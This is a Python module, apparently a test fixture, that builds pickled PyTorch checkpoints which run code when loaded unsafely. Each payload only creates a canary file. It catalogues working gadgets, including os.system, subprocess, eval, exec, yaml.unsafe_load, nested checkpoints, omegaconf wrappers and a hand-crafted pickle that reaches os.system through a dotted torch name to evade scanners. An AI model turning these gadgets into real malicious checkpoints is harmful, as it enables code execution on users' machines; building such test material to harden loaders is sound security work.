"""Pickles that run code where they are loaded unsafely, in each form that a checkpoint may come in.

What each of them does is to make a file or folder, its canary.
"""

from __future__ import annotations

import argparse
import collections
import io
import os
import pickle
import runpy
import shutil
import struct
import subprocess
import tarfile
import time
import timeit
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch
import yaml
from torch import storage

LEGACY = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}]


class Call:
    """Calls a function when it is unpickled."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.call


class Setting:
    """Runs a command when its state is set."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __setstate__(self, state: dict[str, str]) -> None:
        os.system(state["command"])


def dotted(command: str) -> bytes:
    """Protocol 4 looks `serialization.os.system` up in `torch`."""
    texts = [b"\x8c" + struct.pack("<B", len(text)) + text for text in (b"torch", b"serialization.os.system")]
    argument = b"X" + struct.pack("<I", len(command)) + command.encode()
    return b"\x80\x04" + b"".join(texts) + b"\x93" + argument + b"\x85R."


def gadgets(canary: Path) -> dict[str, Any]:
    """Objects that are pickled, or pickles, by name."""
    touch, python, script = f"touch '{canary}'", f"open({str(canary)!r}, 'w').close()", Path(__file__)
    system = Call(os.system, touch)
    nested = io.BytesIO()
    torch.save(system, nested)
    return {
        "os.system": system,
        "subprocess.call": Call(subprocess.call, ["touch", str(canary)]),
        "subprocess.check_output": Call(subprocess.check_output, ["touch", str(canary)]),
        "os.mkdir": Call(os.mkdir, str(canary)),
        "shutil.copyfile": Call(shutil.copyfile, str(script), str(canary)),
        "eval": Call(eval, python),
        "exec": Call(exec, python),
        "map": Call(list, Call(map, os.system, [touch])),
        "timeit": Call(timeit.timeit, python, "pass", time.perf_counter, 1),
        "numpy": Call(np.testing._private.utils.runstring, python, {}),
        "yaml": Call(yaml.unsafe_load, f'!!python/object/apply:os.system ["{touch}"]'),
        "a pickle in it": Call(pickle.loads, pickle.dumps(system)),
        "a checkpoint in it": Call(storage._load_from_bytes, nested.getvalue()),
        "a module's runner": Call(runpy._run_code, python, {}),  # type: ignore[attr-defined]
        "__setstate__": Setting(touch),
        "in a namespace": argparse.Namespace(model=argparse.Namespace(arch=system)),
        "in a dictionary's order": collections.OrderedDict(model=system),
        "in a configuration": configuration(system),
        "a dotted name": dotted(touch),
    }


def configuration(content: Any) -> Any:
    """Of omegaconf, as newer checkpoints of fairseq hold."""
    from omegaconf import OmegaConf

    made = OmegaConf.create({"model": "a"})
    made.__dict__["_content"]["model"] = content
    return made


def pickled(gadget: Any) -> bytes:
    if isinstance(gadget, bytes):
        return gadget
    return pickle.dumps({"model": {}, "cfg": gadget}, 2)


def zipped(content: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, data in {"data.pkl": content, "version": b"3\n", "byteorder": b"little"}.items():
            archive.writestr(f"archive/{name}", data)
    return made.getvalue()


def legacy(content: bytes) -> bytes:
    return b"".join(pickle.dumps(part, 2) for part in LEGACY) + content + pickle.dumps([], 2)


def tarred(content: bytes) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        empty = {"storages": pickle.dumps(0) + pickle.dumps([]), "tensors": pickle.dumps(0)}
        for name, data in {**empty, "pickle": content}.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return made.getvalue()


def files(canary: Path) -> dict[str, bytes]:
    """All gadgets in torch's two forms, and one in those that others take."""
    made = {
        f"{name}, {form.__name__}": form(pickled(gadget))
        for name, gadget in gadgets(canary).items()
        for form in (zipped, legacy)
    }
    plain = pickled(gadgets(canary)["os.system"])
    return made | {"a tar": tarred(plain), "a bare pickle": plain}
